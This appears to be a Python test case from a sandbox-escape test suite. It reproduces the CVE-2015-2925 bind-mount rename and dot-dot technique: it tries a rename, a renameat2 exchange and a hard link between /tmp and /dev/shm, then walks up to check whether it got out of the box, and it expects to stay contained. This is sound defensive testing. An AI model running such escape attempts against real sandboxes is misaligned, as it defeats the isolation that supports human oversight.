# Attack: 63, a directory moved out of its mount under somebody's feet
# Source: CVE-2015-2925 (Linux: rename out of a bind mount, then dot-dot)
# Tries: /tmp and /dev/shm are folders of one file system; it moves and links between them, and walks up from inside.
# Meets: a move or link from one mount to another is refused (EXDEV), and walking up ends at the box's root.
# Expect: contained
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
os.makedirs("/tmp/a/b")
os.mkdir("/dev/shm/c")
open("/tmp/file", "w").close()
os.chdir("/tmp/a/b")
EXCHANGE = 2
worked = []
for name, attempt in {
    "rename": lambda: os.rename("/tmp/a", "/dev/shm/a"),
    "exchange": lambda: 1 / (libc.renameat2(-100, b"/tmp/a", -100, b"/dev/shm/c", EXCHANGE) + 1),
    "link": lambda: os.link("/tmp/file", "/dev/shm/file"),
}.items():
    try:
        attempt()
    except (OSError, ZeroDivisionError):
        continue
    worked.append(name)
os.chdir("../" * 20)
if os.getcwd() != "/" or os.path.isdir("tmp/tmp") or os.path.isdir("shm"):
    worked.append("walked up to " + os.getcwd())
print("ESCAPED: " + ", ".join(worked) if worked else "contained")
